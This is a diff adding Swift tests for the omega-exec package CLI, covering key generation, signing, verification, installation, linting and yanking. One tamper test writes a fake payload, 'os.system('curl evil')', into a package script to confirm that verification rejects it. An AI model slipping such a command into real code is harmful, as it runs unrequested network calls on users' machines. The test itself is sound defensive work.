@@ -1,0 +1,141 @@
+import Foundation
+import Testing
+
+@testable import Manifest
+
+/// The package commands, run through the built `omega-exec` like a user would.
+@Suite(.serialized) struct CLIPackageTests {
+    typealias S = PackageTestSupport
+
+    /// `omega-exec` next to the test bundle, else `<package>/.build/debug/omega-exec`, else `$OMEGA_EXEC_BIN`.
+    static let binary: String? = {
+        let fm = FileManager.default
+        var candidates: [String] = []
+        if let exe = try? fm.destinationOfSymbolicLink(atPath: "/proc/self/exe") {
+            var dir = URL(fileURLWithPath: exe).deletingLastPathComponent()
+            for _ in 0..<3 {
+                candidates.append(dir.appendingPathComponent("omega-exec").path)
+                dir = dir.deletingLastPathComponent()
+            }
+        }
+        let root = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
+            .deletingLastPathComponent()
+        candidates.append(root.appendingPathComponent(".build/debug/omega-exec").path)
+        if let env = ProcessInfo.processInfo.environment["OMEGA_EXEC_BIN"] { candidates.append(env) }
+        return candidates.first { fm.isExecutableFile(atPath: $0) }
+    }()
+
+    struct Run {
+        var status: Int32
+        var stdout: String
+        var stderr: String
+    }
+
+    func run(_ arguments: [String], home: String) throws -> Run {
+        let process = Process()
+        process.executableURL = URL(fileURLWithPath: try #require(Self.binary, "omega-exec not built"))
+        process.arguments = arguments
+        var environment = ProcessInfo.processInfo.environment
+        environment["OMEGA_HOME"] = home
+        process.environment = environment
+        let out = Pipe()
+        let err = Pipe()
+        process.standardOutput = out
+        process.standardError = err
+        try process.run()
+        let stdout = out.fileHandleForReading.readDataToEndOfFile()
+        let stderr = err.fileHandleForReading.readDataToEndOfFile()
+        process.waitUntilExit()
+        return Run(
+            status: process.terminationStatus, stdout: String(decoding: stdout, as: UTF8.self),
+            stderr: String(decoding: stderr, as: UTF8.self))
+    }
+
+    @Test func keygenPackVerifyInstallLintRoundTrip() throws {
+        let dir = S.temporaryDirectory()
+        let home = dir + "/home"
+        let key = dir + "/keys/dev.key"
+        let keygen = try run(["keygen", "-o", key, "--name", "dev"], home: home)
+        #expect(keygen.status == 0, "\(keygen.stderr)")
+        #expect(FileManager.default.fileExists(atPath: key + ".pub"))
+        let secret = try JSONParser().parse(try String(contentsOfFile: key, encoding: .utf8))["privateKey"]!
+            .stringValue!
+        #expect(!keygen.stdout.contains(secret) && !keygen.stderr.contains(secret))
+        #expect(try run(["keygen", "-o", key], home: home).status == 1)  // never overwrites
+
+        let archive = dir + "/echo.tar.gz"
+        let pack = try run(["pack", S.fixture, "-o", archive, "--sign", key], home: home)
+        #expect(pack.status == 0, "\(pack.stderr)")
+        #expect(pack.stdout.contains("packed demo.echo@1.0.0"))
+
+        // Not trusted yet.
+        let untrusted = try run(["verify", archive], home: home)
+        #expect(untrusted.status == 1)
+        #expect(untrusted.stderr.contains("PACKAGE_UNKNOWN_KEY"))
+
+        let publicKey = try JSONParser().parse(try String(contentsOfFile: key + ".pub", encoding: .utf8))
+        try FileManager.default.createDirectory(atPath: home, withIntermediateDirectories: true)
+        S.write(JSONValue.array([publicKey]).jsonText, to: home + "/trusted-keys.json")
+        let verify = try run(["verify", archive], home: home)
+        #expect(verify.status == 0, "\(verify.stderr)")
+        #expect(verify.stdout.contains("signed by"))
+
+        let install = try run(["install", archive], home: home)
+        #expect(install.status == 0, "\(install.stderr)")
+        #expect(FileManager.default.fileExists(atPath: home + "/packages/demo.echo/1.0.0/main.py"))
+        let again = try run(["install", archive], home: home)
+        #expect(again.status == 1 && again.stderr.contains("PACKAGE_ALREADY_INSTALLED"))
+        #expect(try run(["install", "--force", archive], home: home).status == 0)
+
+        let lint = try run(["lint", "--json", archive], home: home)
+        #expect(lint.status == 0)
+        let report = try JSONParser().parse(lint.stdout.trimmingCharacters(in: .whitespacesAndNewlines))
+        #expect(report["valid"] == true)
+        #expect(report["id"] == "demo.echo")
+
+        let yank = try run(["yank", "demo.echo@1.0.0", "--reason", "broken"], home: home)
+        #expect(yank.status == 0, "\(yank.stderr)")
+        let yanked = try run(["install", "--force", archive], home: home)
+        #expect(yanked.status == 1 && yanked.stderr.contains("PACKAGE_YANKED"))
+    }
+
+    @Test func aTamperedPackageFailsVerifyWithANonZeroExit() throws {
+        let dir = S.temporaryDirectory()
+        let home = dir + "/home"
+        #expect(try run(["keygen", "-o", dir + "/k"], home: home).status == 0)
+        #expect(try run(["pack", S.fixture, "-o", dir + "/p.tar.gz", "--sign", dir + "/k"], home: home).status == 0)
+        let trusted = "[" + (try String(contentsOfFile: dir + "/k.pub", encoding: .utf8)) + "]"
+        S.write(trusted, to: dir + "/trusted.json")
+
+        // Unpack, change the script, repack with the stale signature.
+        try PackageExtractor().extract(archive: dir + "/p.tar.gz", into: dir + "/x")
+        S.write("import os; os.system('curl evil')\n", to: dir + "/x/main.py")
+        let writer = try ArchiveWriter(path: dir + "/tampered.tar.gz")
+        for name in ["main.py", "omega.json", "omega.sig.json"] {
+            try writer.addFile(name, contents: Array(try Data(contentsOf: URL(fileURLWithPath: dir + "/x/" + name))))
+        }
+        try writer.close()
+        let result = try run(["verify", dir + "/tampered.tar.gz", "--trusted-keys", dir + "/trusted.json"], home: home)
+        #expect(result.status == 1)
+        #expect(
+            result.stderr.contains("PACKAGE_TAMPERED_FILE") && result.stderr.contains("main.py"), "\(result.stderr)")
+        let install = try run(
+            ["install", dir + "/tampered.tar.gz", "--trusted-keys", dir + "/trusted.json"], home: home)
+        #expect(install.status == 1)
+        #expect(!FileManager.default.fileExists(atPath: home + "/packages/demo.echo"))
+    }
+
+    @Test func lintExitsNonZeroOnErrorsAndPackRefusesToPack() throws {
+        let dir = S.temporaryDirectory()
+        let folder = S.copyFixture(into: dir)
+        try FileManager.default.removeItem(atPath: folder + "/main.py")
+        let lint = try run(["lint", folder], home: dir + "/home")
+        #expect(lint.status == 1)
+        #expect(lint.stdout.contains("SCRIPT_MISSING"))
+        let pack = try run(["pack", folder, "-o", dir + "/p.tar.gz"], home: dir + "/home")
+        #expect(pack.status == 1)
+        #expect(!FileManager.default.fileExists(atPath: dir + "/p.tar.gz"))
+        let missing = try run(["lint", dir + "/nope"], home: dir + "/home")
+        #expect(missing.status == 2)
+    }
+}
